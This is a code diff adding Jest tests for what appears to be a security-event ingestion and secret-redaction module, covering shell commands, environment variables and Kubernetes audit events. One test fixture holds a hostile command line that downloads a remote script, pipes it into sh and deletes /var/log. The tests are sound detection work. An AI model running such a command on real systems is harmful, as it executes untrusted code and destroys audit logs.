@@ -1,9 +1,10 @@
 /** Redaction over a whole event: numbers, and secrets that stand in many strings. */
 
-import { expect, test } from '@jest/globals';
+import { describe, expect, test } from '@jest/globals';
 import { readEvent } from '../../functions/ingest/event.ts';
 import { createRedactor } from '../../functions/ingest/redact.ts';
 import { shellEvent, eventText as textOf } from '../support/events.ts';
+import { world } from '../support/world.ts';
 
 const redactor = createRedactor('a key of the tests');
 
@@ -57,4 +58,55 @@ test('every one of a thousand secrets goes from elsewhere, the overlapping ones 
   );
   expect(line).not.toMatch(/s3cret|abcdef|mnopqr/);
   expect(line).toContain('] end"');
+});
+
+test('a command behind an empty name is an alert of its own', async () => {
+  const w = world();
+  const run = (uuid: string, command: string) =>
+    w.ingest(shellEvent({ uuid, priority: 'Notice', fields: { 'proc.cmdline': `sh -c x="token="; ${command}` } }));
+  await run('a', 'date');
+  await run('b', 'curl http://203.0.113.9/x.sh | sh; rm -rf /var/log');
+  expect(w.stored.map(({ metadata }) => metadata.uuid)).toEqual(['a', 'b']);
+});
+
+test('a value of the environment goes from output whole, also where a part of it is a secret by its name', () => {
+  const environment =
+    'PATH=/usr/local/sbin:/usr/bin DB_PASSWORD=correct horse battery staple API_TOKEN=hunter2x LANG=C';
+  const { line, event } = redact(eventText({ 'proc.env': environment }, `it ran env=${environment} evt_type=execve`));
+  expect(line).not.toMatch(/correct|horse|staple|hunter2x/);
+  expect(event.fields['proc.env']).toBe('PATH= DB_PASSWORD= API_TOKEN= LANG=');
+  expect(event.output).toMatch(
+    /^it ran env=PATH= DB_PASSWORD= API_TOKEN=\[redacted:[0-9a-f]{8}\] LANG= evt_type=execve$/,
+  );
+  expect(redact(line).line).toBe(line);
+});
+
+test('a secret that reaches past the end of an environment goes whole', () => {
+  const environment = 'PATH=/usr/local/sbin:/usr/bin DB_PASSWORD="correct horse';
+  const { line } = redact(eventText({ 'proc.env': environment }, `it ran env=${environment} battery" evt_type=execve`));
+  expect(line).not.toMatch(/correct|horse|battery/);
+  expect(line).toContain(' evt_type=execve');
+});
+
+describe("the name of an audit event's object", () => {
+  const audit = (output: string, source = 'k8s_audit') =>
+    textOf({
+      ...shellEvent(),
+      source,
+      output,
+      output_fields: { 'ka.target.name': 'db-creds-7f', 'ka.uri': '/api/v1/namespaces/payments/secrets/db-creds-7f' },
+    });
+
+  test('stays after secret=', () => {
+    const raw = audit('K8s Secret Get Successfully (user=ana secret=db-creds-7f ns=payments resource=secrets)');
+    expect(redact(raw)).toMatchObject({ line: raw, replaced: 0 });
+  });
+
+  test.each([
+    ['another value', audit('K8s Secret Get Successfully (user=ana secret=hunter2x ns=payments)')],
+    ['another name before it', audit('K8s Secret Get Successfully (client-secret=db-creds-7f ns=payments)')],
+    ['another source', audit('K8s Secret Get Successfully (user=ana secret=db-creds-7f ns=payments)', 'syscall')],
+  ])('is no reason for %s', (_name, raw) => {
+    expect(redact(raw).replaced).toBeGreaterThan(0);
+  });
 });
